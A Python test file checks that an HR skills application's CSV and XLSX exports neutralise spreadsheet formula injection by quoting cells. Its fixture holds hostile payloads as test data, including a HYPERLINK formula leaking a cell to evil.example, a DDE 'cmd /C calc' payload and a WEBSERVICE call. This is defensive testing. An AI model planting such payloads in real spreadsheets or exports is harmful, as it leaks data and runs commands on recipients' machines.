"""No export can attack the spreadsheet it is opened in: names, org units, job
roles, services and comments that start with ``=``, ``+``, ``-`` or ``@`` (names
come from the HR system's CSV) are written with a leading single quote in every
CSV and XLSX of every face (web, API, command line); no XLSX cell is a formula;
numbers, negative ones too, stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import openpyxl
import pytest

from skills_app.extensions import db
from skills_app.models import Person
from skills_app.models.framework import utcnow
from skills_app.policy import SYSTEM
from tests.conftest import load_seed_frameworks, make_person, world_fixture

DANGER = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
UNIT = "+1/@SUM(A1)"


@world_fixture
def poisoned_world():
    """A team whose manager, member names, org units, job role, service, campaign
    and breach comments are formulas; one decision approved a level below the
    claim (a negative difference in calibration), one review breached."""
    from skills_app.services import assessments, campaigns, requirements, service_levels, tokens

    slmo = load_seed_frameworks()["SFIA"].skills[0]
    hr = make_person("Hana HR", roles=("employee", "hr", "learning"), unit="Group")
    boss = make_person(LINK, roles=("employee", "manager"), unit=UNIT, email="boss@example.test")
    sam = make_person(SUM, manager=boss, unit=UNIT, email="sam@example.test")
    pat = make_person("-1", manager=boss, unit=UNIT + "/-2", email="pat@example.test")
    role = requirements.save_job_role(SYSTEM, None, name="-1+2", description=None)
    requirements.set_role_requirement(SYSTEM, role, slmo, min_level=3, essential=True)
    service = requirements.save_service(SYSTEM, None, name="+44 desk", description=None)
    requirements.set_service_requirement(SYSTEM, service, slmo, min_level=2, headcount=2)
    for person in (sam, pat):
        requirements.assign(SYSTEM, person, job_roles=[role], services=[service])

    approved = assessments.start(sam, slmo, 3)
    descriptor = assessments.claimed_descriptors(approved)[0]
    assessments.add_evidence(sam, approved, descriptor_ids=[descriptor.id], text="=1+1")
    assessments.save_draft(sam, approved, claimed_level=approved.claimed_level,
                           ratings={d.id: "met" for d in assessments.descriptors_in_view(approved)})
    assessments.submit(sam, approved)
    assessments.decide(boss, approved, outcome="approve", validated_level=2, comment="=WEBSERVICE(\"http://evil.example\")")
    approved.valid_until = utcnow() + timedelta(days=30)

    late = assessments.start(pat, slmo, 2)
    descriptor = assessments.claimed_descriptors(late)[0]
    assessments.add_evidence(pat, late, descriptor_ids=[descriptor.id], text="mine")
    assessments.save_draft(pat, late, claimed_level=late.claimed_level,
                           ratings={d.id: "met" for d in assessments.descriptors_in_view(late)})
    assessments.submit(pat, late)
    late.due_at = utcnow() - timedelta(minutes=5)  # overdue this month, whatever the day (the export shows this month)
    service_levels.run_checks(SYSTEM)
    breach = service_levels.breaches(SYSTEM)[0]
    service_levels.record_cause(hr, breach, cause="other", note=LINK, action=SUM)

    unit = boss.org_unit
    open_one = campaigns.open_campaign(SYSTEM, name="=Open", skills=[slmo], opens_on=date.today(), due_on=date.today(), org_unit=unit)
    closed = campaigns.open_campaign(SYSTEM, name="@Closed", skills=[slmo], opens_on=date.today(), due_on=date.today(), org_unit=unit)
    campaigns.close(SYSTEM, closed)
    _token, secret = tokens.create(SYSTEM, hr, "exports")
    db.session.commit()
    return {"hr": hr.id, "campaigns": [open_one.id, closed.id], "token": secret}


WEB = [
    "/reports/gaps/export?format={fmt}",
    "/reports/gaps/export?format={fmt}&group=org_unit",
    "/reports/coverage?format={fmt}",
    "/reports/training-needs?format={fmt}",
    "/reports/trends?format={fmt}&group=org_unit",
    "/reports/calibration?format={fmt}&group=reviewer",
    "/reports/calibration?format={fmt}&group=team",
    "/service-levels?format={fmt}",
    "/campaigns/{open}/export?format={fmt}",
    "/campaigns/{closed}/export?format={fmt}",
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_csv(data: bytes, where: str) -> list[str]:
    """Every field of a CSV: none starts as a formula would, unless it is a number."""
    fields = [field for row in csv.reader(io.StringIO(data.decode("utf-8"))) for field in row]
    bad = [f for f in fields if f.startswith(DANGER) and not _is_number(f)]
    assert not bad, f"{where}: unneutralised cells {bad}"
    return fields


def check_xlsx(data: bytes, where: str) -> list:
    """Every cell of every sheet: none is a formula, no text starts as one would."""
    values = []
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGER), f"{where}: {sheet.title}!{cell.coordinate} = {cell.value!r}"
                values.append(cell.value)
    return values


def check(data: bytes, fmt: str, where: str) -> list:
    return check_csv(data, where) if fmt == "csv" else check_xlsx(data, where)


def test_every_web_export_is_neutralised(app, poisoned_world, sign_in):
    client = sign_in(db.session.get(Person, poisoned_world["hr"]))
    seen = {}
    for fmt in ("csv", "xlsx"):
        for path in WEB + (["/revalidation?format=csv&days=90"] if fmt == "csv" else []):
            url = path.format(fmt=fmt, open=poisoned_world["campaigns"][0], closed=poisoned_world["campaigns"][1])
            response = client.get(url)
            assert response.status_code == 200, (url, response.status_code)
            assert response.headers["Content-Disposition"].startswith('attachment; filename="'), url
            seen[url] = check(response.data, fmt, url)
    # The formulas were there to neutralise, and came out quoted.
    gap_csv = seen["/reports/gaps/export?format=csv"]
    assert {"'" + SUM, "'-1", "'-1+2", "'+44 desk", "'" + UNIT} <= set(gap_csv)
    assert "'" + LINK in seen["/reports/calibration?format=csv&group=reviewer"]
    assert "'" + SUM in seen["/campaigns/{}/export?format=xlsx".format(poisoned_world["campaigns"][1])]
    # A breach's comments, in the service level workbook.
    assert "'" + LINK in seen["/service-levels?format=xlsx"] and "'" + SUM in seen["/service-levels?format=xlsx"]
    # A genuine negative number stays a number: Sam was approved a level below the claim.
    calibration = seen["/reports/calibration?format=xlsx&group=reviewer"]
    assert any(isinstance(v, (int, float)) and v < 0 for v in calibration)
    assert "-1.0" in seen["/reports/calibration?format=csv&group=reviewer"]


def test_every_api_export_is_neutralised(app, poisoned_world):
    client = app.test_client()
    headers = {"Authorization": f"Bearer {poisoned_world['token']}"}
    for url in ("/api/v1/reports/gaps?format=csv", "/api/v1/reports/training-needs?format=csv"):
        response = client.get(url, headers=headers)
        assert response.status_code == 200, (url, response.data[:300])
        assert response.headers["Content-Type"].startswith("text/csv")
        fields = check_csv(response.data, url)
        if "gaps" in url:
            assert "'" + SUM in fields and "'-1" in fields


@pytest.mark.parametrize("command", [["report", "gaps"], ["report", "gaps", "--group-by", "service"], ["report", "training-needs"],
                                     ["report", "service-coverage"], ["report", "service-levels"]])
def test_every_command_line_export_is_neutralised(app, poisoned_world, runner, tmp_path, command):
    for fmt in ("csv", "xlsx"):
        output = tmp_path / f"out.{fmt}"
        result = runner.invoke(args=[*command, "--format", fmt, "--output", str(output)])
        assert result.exit_code == 0, result.output
        check(output.read_bytes(), fmt, " ".join(command))
    result = runner.invoke(args=[*command, "--format", "csv"])
    assert result.exit_code == 0, result.output
    check_csv(result.stdout_bytes, " ".join(command))


def test_the_cell_writer():
    import pandas as pd

    from skills_app.reports import export

    frame = pd.DataFrame({"name": [LINK, "+1", "-1", "@x", "\tx", "plain", None], "n": [-1, 2, -3.5, 0, 1, 3, 4]})
    rows = list(csv.reader(io.StringIO(export.to_csv(frame))))
    assert rows[1:4] == [["'" + LINK, "-1.0"], ["'+1", "2.0"], ["'-1", "-3.5"]]
    assert [r[0] for r in rows[4:]] == ["'@x", "'\tx", "plain", ""]
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx({"T": frame})))
    cells = [(c.value, c.data_type) for c in book["T"]["A"][1:]] + [(c.value, c.data_type) for c in book["T"]["B"][1:3]]
    assert cells[:3] == [("'" + LINK, "s"), ("'+1", "s"), ("'-1", "s")]
    assert cells[-2:] == [(-1.0, "n"), (2.0, "n")]
    assert export.cell("\rx") == "'\rx" and export.cell(-1) == -1 and export.cell("a=b") == "a=b"
